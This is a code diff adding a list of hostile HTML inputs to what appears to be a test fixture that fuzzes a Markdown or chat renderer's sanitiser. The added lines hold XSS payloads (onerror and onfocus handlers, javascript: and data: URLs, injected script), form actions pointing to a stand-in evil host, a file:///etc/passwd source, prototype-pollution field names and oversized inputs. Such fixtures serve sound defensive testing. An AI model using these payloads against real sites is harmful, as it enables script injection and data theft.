@@ -134,6 +134,52 @@ const formulas = [
   '\\mathtip{x}{y}\\toggle{a}{b}\\endtoggle',
 ];
 
+const inForm = (html: string): string => `<form data-format="json">\n${html}\n<button>Go</button>\n</form>`;
+const large = 'x'.repeat(100_000);
+
+/** Attacks by the HTML that becomes controls, and by what is next to it. */
+const controls = [
+  `<button data-message="pwn" onclick="alert(1)" autofocus onfocus=alert(1) formaction="${evil}" form=x id=app name=app>Go</button>`,
+  `<button data-link="javascript:alert(1)">Go</button>`,
+  `<button data-link="javascript:alert(1)" data-message="pwn">Go</button>`,
+  `<button data-link="https://user:pass@evil.example/x">Go</button>`,
+  `<button data-message="a\u202Eb\u{E0041}">Yes\u202E\u200B</button>`,
+  `<button data-message="${large}">Go</button>`,
+  `<button data-message='"><img src=x onerror=alert(1)>'><img src=x onerror=alert(1)></button>`,
+  `<button data-act="copyCode" data-message="&quot;&lt;script&gt;alert(1)&lt;/script&gt;">&lt;img src=x onerror=alert(1)&gt;</button>`,
+  '<button data-message="pwn">Go</button>\n'.repeat(500),
+  `<form action="${evil}" target=_top onsubmit=alert(1) id=app name=body>\n<input name=a autofocus onfocus=alert(1) formaction="${evil}" list=x>\n<button formaction="${evil}" type=submit>Go</button></form>`,
+  ...['__proto__', 'constructor', 'toString', 'x" onfocus="alert(1)', 'innerHTML', 'cookie', 'location'].map((name) =>
+    inForm(
+      `<label for="${name}">L</label><input type=text name="${name}" value="v"><textarea name='${name}'></textarea>`,
+    ),
+  ),
+  ...['password', 'file', 'image', 'submit', 'reset', 'color', 'button', 'radio', '"><script>alert(1)</script>'].map(
+    (type) => inForm(`<input type="${type}" name="a" src="${evil}" accept="*" value="<img src=x onerror=alert(1)>">`),
+  ),
+  inForm(`<form action="${evil}"><input name=b></form>`),
+  inForm('<input name="a">'.repeat(1000)),
+  inForm(`<textarea name=a></textarea><img src=x onerror=alert(1)></textarea>`),
+  inForm(
+    `<input type=select name=a data-options='["<img src=x onerror=alert(1)>", "</option><script>alert(1)</script>", 1, null]'>`,
+  ),
+  inForm(`<input type=select name=a data-options='{"__proto__":{}}'><input type=select name=b data-options='[`),
+  inForm(
+    `<script>alert(1)</script><style>*{background:url(${evil})}</style><iframe srcdoc="<script>alert(1)</script>"></iframe>`,
+  ),
+  inForm(
+    `<label for=a><img src=x onerror=alert(1)></label><input name=a placeholder='"><img src=x onerror=alert(1)>'>`,
+  ),
+  `<form><button>${'<form>'.repeat(2000)}`,
+  `<details open ontoggle=alert(1) style="position:fixed;inset:0;background:url(${evil})" name=x id=app><summary onclick=alert(1)>S <img src=x onerror=alert(1)></summary>\n\n<img src=x onerror=alert(1)>\n\n</details>`,
+  `${'<details><summary>x</summary>\n\n'.repeat(200)}deep`,
+  `<details><summary>Thinking...</summary><img src=x onerror=alert(1)></details>done`,
+  `<audio src="javascript:alert(1)"></audio>`,
+  `<audio src="data:text/html,<script>alert(1)</script>" autoplay></audio>`,
+  `<video poster="${evil}" autoplay><source src="${evil}" onerror=alert(1)></video>`,
+  `<video src="file:///etc/passwd"></video>`,
+];
+
 /** Places in which Markdown is read in another way. */
 const places: readonly ((payload: string) => string)[] = [
   (payload) => `- item\n  - ${payload.replaceAll('\n', '\n    ')}`,
@@ -153,6 +199,7 @@ export const morePayloads: readonly string[] = [
     ...loading,
     ...linked,
     ...calculated,
+    ...controls,
     ...places.flatMap((place) => payloads.map(place)),
   ]),
 ];
